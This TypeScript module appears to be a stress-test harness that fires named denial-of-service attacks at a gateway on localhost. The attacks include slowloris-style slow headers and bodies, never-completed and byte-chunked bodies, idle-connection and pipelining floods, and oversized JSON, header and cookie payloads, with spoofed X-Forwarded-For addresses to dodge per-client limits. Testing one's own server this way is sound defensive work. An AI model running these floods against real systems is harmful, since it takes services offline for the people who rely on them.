import { setTimeout as delay } from 'node:timers/promises';
import { counted, heldAt, Wire } from './wire.js';

const SECOND_MS = 1_000;
/** Longer than every timeout of the gateway for a connection that sends nothing. */
const PATIENCE_MS = 80 * SECOND_MS;
/** Minimum time for which a short attack is repeated. */
const LONG_ENOUGH_MS = 5 * SECOND_MS;
const AT_ONCE = 250;

export interface Target {
  port: number;
  /** Path of a large file. */
  largeFile: string;
}

/** Sends its data, waits, and counts how it ended: by ending of the connections, or by status of the responses. */
export type Attack = (target: Target) => Promise<Record<string, number>>;

const head = (line: string, ...headers: string[]) => [line, 'Host: localhost', ...headers, ''].join('\r\n');
const request = (line: string, ...headers: string[]) => `${head(line, ...headers)}\r\n`;
/** Client address, as a proxy in front of the gateway sets it. */
const from = (n: number) => `X-Forwarded-For: 203.0.113.${n % 250}`;
const json = (body: string) =>
  request(
    'POST /api/contact HTTP/1.1',
    'Content-Type: application/json',
    `Content-Length: ${Buffer.byteLength(body)}`,
    'Connection: close',
  ) + body;

async function open(count: number, { port }: Target, first: (n: number) => string, options = {}) {
  const wires: Wire[] = [];
  while (wires.length < count) {
    for (let n = Math.min(AT_ONCE, count - wires.length); n > 0; n--) {
      const wire = new Wire(port, options);
      wire.write(first(wires.length));
      wires.push(wire);
    }
    await delay(100); // a listening socket holds a few hundred that are not yet accepted
  }
  return wires;
}

/** Sends a little more on each connection every second, until the gateway holds none of them. */
async function starve({ port }: Target, wires: Wire[], more: (second: number) => string) {
  const until = Date.now() + PATIENCE_MS;
  let held = wires;
  for (let second = 0; held.length > 0 && Date.now() < until; second++) {
    const piece = more(second);
    if (piece) wires.forEach((wire) => wire.write(piece));
    await delay(SECOND_MS);
    const ports = await heldAt(port);
    held = wires.filter((wire) => ports.has(wire.port));
  }
  const isHeld = new Set(held);
  const endings = counted(wires.map((wire) => (!isHeld.has(wire) && wire.isOpen ? 'closed unseen' : wire.ending)));
  wires.forEach((wire) => wire.drop());
  return endings;
}

function endingsOf(wires: Wire[]) {
  const endings = counted(wires.map(({ ending }) => ending));
  wires.forEach((wire) => wire.drop());
  return endings;
}

/** Sends the same request from many connections, again and again. */
async function repeat(target: Target, text: string): Promise<Record<string, number>> {
  const wires: Wire[] = [];
  for (const until = Date.now() + LONG_ENOUGH_MS; Date.now() < until;) {
    const more = await open(AT_ONCE, target, () => text);
    await Promise.all(more.map((wire) => wire.closed(PATIENCE_MS)));
    wires.push(...more);
  }
  return endingsOf(wires);
}

const LARGEST_BYTES = 800 * 1_024;
/** A body without its last byte, so that it never becomes complete. */
const almostWhole = 'a'.repeat(LARGEST_BYTES - 1);

const manyHeaders = Array.from({ length: 1_900 }, (_, n) => `a${n}: 1`);

/** Attacks by name. Each exhausts a limited resource of the gateway. */
export const attacks: Record<string, Attack> = {
  'slow headers': async (target) =>
    starve(target, await open(1_000, target, (n) => head('GET / HTTP/1.1', from(n))), (second) => `X-${second}: 1\r\n`),
  'slow bodies': async (target) =>
    starve(
      target,
      await open(500, target, (n) => request('POST /api/contact HTTP/1.1', 'Content-Length: 1000', from(n))),
      () => 'a',
    ),
  'bodies almost whole': async (target) =>
    starve(
      target,
      await open(
        1_000,
        target,
        (n) =>
          request(
            'POST /api/webhooks/sendgrid HTTP/1.1',
            'X-Twilio-Email-Event-Webhook-Signature: MEUC',
            `Content-Length: ${LARGEST_BYTES}`,
            from(n % 60),
          ) + almostWhole,
      ),
      () => '',
    ),
  // The gateway keeps a Buffer for each of them
  'bodies in chunks of a byte': async (target) =>
    starve(
      target,
      await open(
        200,
        target,
        (n) =>
          request('POST /api/checkout HTTP/1.1', 'Transfer-Encoding: chunked', from(n % 60)) +
          '1\r\na\r\n'.repeat(200_000),
      ),
      () => '',
    ),
  'slow readers': async (target) =>
    starve(
      target,
      await open(100, target, (n) => request(`GET ${target.largeFile} HTTP/1.1`, from(n)).repeat(30), { reads: false }),
      () => '',
    ),
  '10,000 idle connections': async (target) => starve(target, await open(10_000, target, () => ''), () => ''),
  'deep JSON': (target) => repeat(target, json('['.repeat(120_000) + ']'.repeat(120_000))),
  'many headers': (target) => repeat(target, request('GET / HTTP/1.1', ...manyHeaders, 'Connection: close')),
  'a huge header': (target) => repeat(target, request('GET / HTTP/1.1', `X-Huge: ${'a'.repeat(1_000_000)}`)),
  'many cookies': (target) => repeat(target, request('GET / HTTP/1.1', `Cookie: ${'a=1; '.repeat(20_000)}`)),
  async pipelining(target) {
    const wires: Wire[] = [];
    for (const until = Date.now() + LONG_ENOUGH_MS; Date.now() < until;) {
      const flood = request('GET /api/area-codes/501 HTTP/1.1', from(0)).repeat(2_000);
      const more = await open(20, target, () => flood);
      await Promise.all(more.map((wire) => wire.closed(PATIENCE_MS)));
      wires.push(...more);
    }
    return { ...counted(wires.flatMap((wire) => wire.statuses)), ...endingsOf(wires) };
  },
};
